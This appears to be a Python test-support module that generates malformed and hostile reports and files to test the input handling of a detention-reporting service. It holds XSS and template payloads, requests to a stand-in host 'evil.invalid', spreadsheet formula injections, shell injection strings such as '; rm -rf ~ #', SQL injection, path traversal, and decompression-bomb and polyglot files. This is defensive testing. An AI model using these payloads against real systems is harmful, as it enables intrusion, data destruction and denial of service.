"""Reports that mean harm. Each attack is a list of headers (or raw bytes) and files, to be sealed as phones seal."""

import io
import re
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from PIL import Image

from client.reporter.compose import new_id
from tests.support.soak import at_length

CANARY = "tocsinran"  # what a script of ours would leave in the page's window, if one ran
ELSEWHERE = "evil.invalid"  # whom nothing may ask

SCRIPTS = (
    f"<script>window.{CANARY}=1</script>",
    f"\"><img src=x onerror=window.{CANARY}=2>",
    f"'><svg/onload=window.{CANARY}=3>",
    f"</title></textarea></style></script><script>window.{CANARY}=4</script>",
    f"<iframe srcdoc='<script>parent.{CANARY}=5</script>'></iframe>",
    f"<a href=\"javascript:window.{CANARY}=6\">x</a>",
    f"<img src=https://{ELSEWHERE}/x.png>",
    f"<style>@import url(https://{ELSEWHERE}/x.css);*{{background:url(https://{ELSEWHERE}/y)}}</style>",
    f"<meta http-equiv=refresh content=\"0;url=https://{ELSEWHERE}/\">",
    f"<form action=https://{ELSEWHERE}/><button autofocus onfocus=window.{CANARY}=7>",
    "<!--", "]]>", "&lt;script&gt;", "&#x3c;script>", "<base href=//evil.invalid/>",
)  # fmt: skip
TEMPLATES = ("{{7*191}}", "{% include '/etc/passwd' %}", "${7*191}", "#{7*191}", "%(name)s", "{0.__class__}", "%n%n%n")
FORMULAS = (
    f'=HYPERLINK("https://{ELSEWHERE}/?"&A1,"here")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "\n=1+1", "=1+1;\",\"", "|calc", "%0A=1+1", "＝1+1",
)  # fmt: skip
SHELLS = ("$(touch /tmp/tocsinran)", "`touch /tmp/tocsinran`", "; rm -rf ~ #", "&& id", "../../../etc/passwd", "--help")
QUERIES = ('\'; DROP TABLE "case"; --', '" OR 1=1 --', "NEAR(", "a* OR (", '"', "name:x", "^", "* *")
DIRECTIONS = (
    "Ива\u202enov\u202c", "\u202e" * 40 + "gnp.exe", "\u2066\u2067\u2068", "\u2069" * 20, "\u200f\u061cАнна\u200e",
    "\u202aА", "x\u202e" + "<b>", "Иванов\u2028Иван\u2029", "\ufeff\u200b\u200c\u200d",
)  # fmt: skip
CONTROLS = ("\x00", "a\x00b", "\x1b[2J\x1b[31mred", "\x07" * 10, "\x7f\x80\x9f", "\r\n\r\nHTTP/1.1 200", "\ufffe\uffff")
LONG = ("щ" * 480, "W" * 500, "a\u0300" + "\u0301" * 400, "👩\u200d👩\u200d👧" * 40, "𝕴" * 400, "﷽" * 400)
KINDS = {
    "script": SCRIPTS,
    "template": TEMPLATES,
    "formula": FORMULAS,
    "shell": SHELLS,
    "query": QUERIES,
    "direction": DIRECTIONS,
    "control": CONTROLS,
    "long": LONG,
}
WORDS = tuple(word for words in KINDS.values() for word in words)

LINES = ("name", "other_names", "birth", "citizenship", "sex", "occupation", "contact", "event", "article")
TEXTS = (
    "tell", "health", "medicines", "dependants", "reason", "warrant", "papers", "injuries", "account",
)  # fmt: skip


@dataclass(frozen=True)
class File:
    """A file and what its sender calls it. `claim`: fields of its reference that are not true."""

    name: str
    data: bytes
    type: str = "image/jpeg"
    claim: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Attack:
    """`headers`: JSON objects or raw bytes of headers. `aside`: how many of them are no message at all."""

    name: str
    headers: list[dict[str, Any] | bytes]
    aside: int = 0
    files: list[File] = field(default_factory=list)


class Attacker:
    """Makes attacks that happen at `now`, at a place of their own: a van that is nobody else's."""

    def __init__(self, now: int, random_bytes: Callable[[int], bytes]) -> None:
        self.now, self._random_bytes = now, random_bytes

    def id(self) -> str:
        return new_id(self._random_bytes)

    def report(self, facts: dict[str, Any] | None = None, **header: Any) -> dict[str, Any]:
        base = {"stage": "van", "people": 1, "van": {"plate": "X666XX"}}
        return {
            "v": 1,
            "kind": "report",
            "id": self.id(),
            "case": self.id(),
            "seq": 0,
            "at": self.now,
            "facts": base | (facts or {}),
            **header,
        }

    def all(self, victim: dict[str, Any]) -> Iterator[Attack]:
        """Every attack. `victim`: the header of an honest report that somebody read on a seized phone."""
        yield from self._words()
        yield from self._counts()
        yield from self._times()
        yield from self._shapes()
        yield from self._json()
        yield from self._strangers(victim)
        for file in files():
            yield Attack(f"file: {file.name}", [self.report({"name": "Файл"})], files=[file])

    def _words(self) -> Iterator[Attack]:
        for kind, words in KINDS.items():
            yield Attack(f"{kind} in every field", [self._plain(word) for word in words])
            yield Attack(f"{kind} in whatever has fields", [self._nested(word) for word in words])
        yield Attack("a word of 60,000 letters", [self.report({"account": "щ" * 20_000, "name": "W" * 20_000})])
        yield Attack("words longer than they may be", [self.report({"account": "Ж" * 25_000, "event": "W" * 600})])
        yield Attack("a thousand fields", [self.report({f"field{n}": n for n in range(1_000)})])
        yield Attack("a field with a name like a book", [self.report({"x" * 5_000: 1, "": 2, "__proto__": {"a": 1}})])
        yield Attack("lists that are too long", [self.report({"needs": ["x"] * 101, "violence": ["y"] * 1_000})])

    def _plain(self, word: str) -> dict[str, Any]:
        allowed = {"help": True, "store": True, "statistics": True, "UN": True, "publish": "with_name"}
        facts: dict[str, Any] = dict.fromkeys(LINES, word[:500])
        facts |= dict.fromkeys(TEXTS[:2], (word * 2_000)[:2_000])
        return self.report(facts | {"consent": allowed})

    def _nested(self, word: str) -> dict[str, Any]:
        line, short = word[:500], word[:100]
        facts: dict[str, Any] = dict.fromkeys(TEXTS[2:], word)
        facts |= {"languages": [line], "needs": [line], "violence": [line] * 9, "place": {"text": line}}
        facts["station"] = [{"pack": line, "id": line, "text": line, "candidates": [short] * 3}]
        facts["van"] = {"plate": line, "side": line, "from": line, "to": line}
        facts["by"] = {"kind": "unknown", "names": [short] * 3, "badges": [line], "vehicle": line}
        return self.report(facts | {word or "x": word}, **{word: word, "language": word, "note": [word, {word: word}]})

    def _counts(self) -> Iterator[Attack]:
        for people in (100_000, 100_001, 2**53, 2**64, -1, 0, 1.5, 1e300, "20", True, None, [20], {"n": 20}):
            facts = {"people": people, "minors": people, "injured": people}
            yield Attack(f"people {people!r:.20}", [self.report(facts)])
        yield Attack("more minors than people", [self.report({"people": 1, "minors": 100_000, "injured": 99_999})])
        crowd = [self.report({"people": 100_000, "name": f"Толпа {number}"}) for number in range(3)]
        yield Attack("three liars agree", crowd)

    def _times(self) -> Iterator[Attack]:
        far = 253_402_300_799  # the last second of the year 9999
        for at in (0, 1, far, far + 1, 2**53 - 1):
            facts = {"detained_at": {"time": at}, "station": {"text": "Вечность", "from": at, "to": 2**53 - 1 - at}}
            facts |= {"lawyer": {"asked": True, "when": at}, "place": {"lat": 1, "lon": 1, "age": at}}
            when = dict.fromkeys(("stage", "station", "people", "lawyer"), at)
            yield Attack(f"time {at}", [self.report(facts | {"stage": "station"}, at=at, when=when)])
        never = (-1, 2**53, 2**63, 2**200, -(2**63), 1.5, 1e300, "сейчас", None, [], True)
        yield Attack("no time", [self.report(at=at) for at in never], aside=len(never))
        for at in (-1, 2**53, 1.5, "вчера", None, [1], {"a": 1}, True):
            facts = {"detained_at": at, "stage": "station", "station": {"text": "x", "from": at}}
            yield Attack(f"happened {at!r:.20}", [self.report(facts, when={"stage": at, "people": at, "x": at})])

    def _shapes(self) -> Iterator[Attack]:
        wrong = ({"role": 1}, {"stage": "moon"}, {"name": {"a": 1}}, {"name": 5}, {"place": "дом"}, {"place": []},
                 {"place": {"lat": 9_000_001, "lon": 0}}, {"place": {"lat": 1}}, {"station": "ОВД"}, {"station": []},
                 {"station": [{}] * 500}, {"van": "А123"}, {"van": {"wheels": 4}}, {"by": "police"}, {"files": "x"},
                 {"files": [{"sha256": "x"}]}, {"consent": "yes"}, {"consent": {"publish": "all"}}, {"lawyer": True},
                 {"languages": "ru"}, {"languages": [1, None]}, {"needs": [["x"]]}, {"people": "семь"})  # fmt: skip
        yield Attack("wrong types", [self.report(facts) for facts in wrong])
        for header in ({"facts": []}, {"facts": None}, {"when": 5}, {"parcels": {}}, {"reply": {}}, {"practice": "yes"},
                       {"kind": "alert"}, {"kind": "reply"}, {"kind": "x"}, {"kind": None}, {"v": 2}, {"v": "1"},
                       {"seq": -1}, {"seq": 2**53}, {"seq": "0"}, {"parcels": [{}] * 65}):  # fmt: skip
            yield Attack(f"wrong header {header!r:.40}", [{**self.report(), **header}], aside=1)
        odd = ("", "x", "../../etc/passwd", "A" * 21, "A" * 22 + "=", "A" * 21 + "B", "A" * 23, "А" * 22, "A" * 5_000,
               "AAAAAAAAAAAAAAAAAAAAA\n", "A" * 20 + "#0", "A" * 18 + "' --", None, 5, ["A" * 22])  # fmt: skip
        yield Attack("odd case ids", [self.report(case=odd_id) for odd_id in odd], aside=len(odd))
        yield Attack("odd message ids", [self.report(id=odd_id) for odd_id in odd], aside=len(odd))

    def _json(self) -> Iterator[Attack]:
        deep = b'{"v":1,"kind":"report","id":"%s","case":"%s","seq":0,"at":%d,"facts":{"people":1,"x":%s}}'

        def raw(value: bytes) -> bytes:
            return deep % (self.id().encode(), self.id().encode(), self.now, value)

        for depth in (100, 900, 3_000, 30_000):
            yield Attack(f"{depth} lists in a list", [raw(b"[" * depth + b"]" * depth)])
            yield Attack(
                f"{depth // 5} objects in an object", [raw(b'{"a":' * (depth // 5) + b"1" + b"}" * (depth // 5))]
            )
        for name, value in (
            ("a number without end", b"1" * 5_000), ("a large number", b"1e999"), ("a small number", b"-1e-999"),
            ("half a letter", rb'"\ud800"'), ("halves turned round", rb'"\udc00\ud800"'), ("a zero", rb'"\u0000"'),
            ("the same key twice", b'{"a":1,"a":2}'), ("not a number", b"NaN"), ("a comma too many", b"[1,]"),
            ("bytes that are no text", b'"\xff\xfe"'), ("too long a letter", b'"\xf4\x90\x80\x80"'),
            ("nothing", b""), ("a key that is half a letter", rb'{"\ud83d":1}'),
        ):  # fmt: skip
            yield Attack(f"json: {name}", [raw(value)])
        for name, header in (("nothing", b""), ("a list", b"[]"), ("a word", b'"x"'), ("null", b"null"),
                             ("bytes", b"\x00\xff" * 50), ("half", b'{"v":1')):  # fmt: skip
            yield Attack(f"no object: {name}", [header], aside=1)

    def _strangers(self, victim: dict[str, Any]) -> Iterator[Attack]:
        case, facts = victim["case"], {"stage": "released", "people": 50, "name": "Другой Человек"}
        amend = {"kind": "amend", "case": case}
        yield Attack("an amendment to another's case, of the same number", [self.report(facts, **amend, seq=1)])
        yield Attack("an amendment that wants the last word", [self.report(facts, **amend, seq=2**53 - 1)])
        yield Attack("an amendment from the future", [self.report(facts, **amend, seq=9, at=2**53 - 1)])
        yield Attack("another report that begins the case", [self.report(facts, case=case)])
        yield Attack("a message with another's id", [self.report(facts, id=victim["id"])])
        yield Attack("another's message with other facts", [{**victim, "facts": victim["facts"] | facts}])
        yield Attack("practice in a case that is none", [self.report(facts, **amend, seq=5, practice=True)])
        yield Attack("an amendment to nothing", [self.report(facts, kind="amend", seq=3)])
        same = self.report({"name": "Близнецы"})
        yield Attack("one message a hundred times", [same] * 100)
        identical = self.id()
        yield Attack("fifty messages with one id", [self.report({"name": f"{n}"}, id=identical) for n in range(50)])
        flood = [self.report({"name": "Иванов Иван", "event": f"<b>{n}</b>"}) for n in range(200)]
        yield Attack("two hundred namesakes", flood)


# Attacks that differ in a number or in the shape of JSON, and in no word that a page shows.
WORDLESS = re.compile(r"(honest|people|time|happened|json:)|[0-9]+ (lists in a list|objects in an object)")


def choose_seen(cases: dict[str, str]) -> dict[str, str]:
    """Choose whose pages a real browser opens: all in a soak, else of the wordless ones the first of each kind."""
    first: dict[str, str] = {}
    for path, name in cases.items():
        kind = WORDLESS.match(name)
        first.setdefault((kind[1] or kind[2]) if kind else path, path)
    return at_length({path: cases[path] for path in first.values()}, cases)


# Files


def files() -> Iterator[File]:
    script = f"<script>window.{CANARY}=9</script>".encode()
    yield File("html", b"<!doctype html>" + script, "text/html")
    yield File("html called a picture", b"<html>" + script, "image/png")
    yield File(
        "svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.%s=1"/>' % CANARY.encode(), "image/svg+xml"
    )
    yield File(
        "svg called a jpeg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>"
    )
    yield File("xml bomb", b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>', "image/svg+xml")
    yield File("gif and script", b"GIF89a/*" + b"\0" * 20 + f"*/=1;window.{CANARY}=1//".encode(), "image/gif")
    yield File("jpeg and pdf", jpeg(comment=b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(1)>>>>\n") + b"%%EOF")
    yield File("jpeg and html behind it", jpeg() + b"\n<html>" + script)
    yield File("jpeg and zip behind it", jpeg() + b"PK\x03\x04" + bytes(26) + b"PK\x05\x06" + bytes(18))
    yield File(
        "jpeg with html in its metadata", jpeg(exif={0x010E: script.decode(), 0x013B: SCRIPTS[1], 0x8298: "\u202egnp"})
    )
    yield File("jpeg with metadata without end", jpeg(exif={0x010E: "W" * 60_000}))
    yield File("jpeg cut off", jpeg()[:40])
    yield File("jpeg of a thousand segments", b"\xff\xd8" + b"\xff\xe1\x00\x04ab" * 8_000)
    yield File("jpeg that says it is huge", jpeg(size=(65_500, 65_500)))
    yield File("png that unpacks to 1.4 GB", png(20_001, 70_000), "image/png")
    yield File("png with a text that unpacks to 50 MB", png(8, 8, text=bytes(50_000_000)), "image/png")
    yield File("png of no size", png(0, 0), "image/png")
    yield File("png cut off", png(8, 8)[:20], "image/png")
    yield File("gif that moves", gif(), "image/gif")
    yield File("tiff", b"II*\x00" + b"\xff" * 200, "image/tiff")
    yield File("wav whose head lies", b"RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff", "audio/wav")
    yield File("mp4 whose head lies", b"\xff\xff\xff\xffftypM4A " + b"\0" * 40, "audio/mp4")
    yield File("nothing at all", b"", "image/jpeg")
    yield File("program", b"\x7fELF" + bytes(60), "image/jpeg")
    yield File("a type with a header in it", jpeg(), "image/jpeg\r\nSet-Cookie: a=1\r\n\r\n" + SCRIPTS[0])
    yield File("a type without end", jpeg(), "x" * 255)
    yield File("a size that is not true", jpeg(), claim={"bytes": 2**53 - 1})
    yield File("pieces that never come", jpeg(), claim={"n": 4_096, "bytes": 4_096 * 63_488})
    yield File("a hash that is not true", jpeg(), claim={"sha256": "A" * 43})


def jpeg(size: tuple[int, int] = (8, 8), exif: dict[int, str] | None = None, comment: bytes = b"") -> bytes:
    """A small real JPEG; `size` is written over what it says of itself."""
    metadata = Image.Exif()
    for tag, value in (exif or {}).items():
        metadata[tag] = value
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, "JPEG", exif=metadata, comment=comment)
    data = out.getvalue()
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", size[1], size[0]) + data[at + 4 :] if size != (8, 8) else data


@cache
def png(width: int, height: int, text: bytes = b"") -> bytes:
    """A PNG of zeros, which compress to nearly nothing."""
    rows = min(height, 20_000)
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))]
    if text:
        chunks.append((b"zTXt", b"Comment\0\0" + zlib.compress(text, 9)))
    chunks += [(b"IDAT", _zeros((1 + width) * rows)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(map(_chunk, chunks))


def _zeros(count: int) -> bytes:
    """Return so many zeros as a zlib stream: one packed block, many times."""
    packer, block = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS), bytes(min(count, 2**20) or 1)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(count % len(block))) + packer.flush()
    checksum = (count % 65_521) << 16 | 1  # Adler-32 of zeros
    return b"\x78\xda" + packed * (count // len(block)) + rest + struct.pack(">I", checksum)


def _chunk(chunk: tuple[bytes, bytes]) -> bytes:
    kind, data = chunk
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def gif() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("P", (8, 8), shade) for shade in (0, 255, 0)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=20, loop=0)
    return out.getvalue()
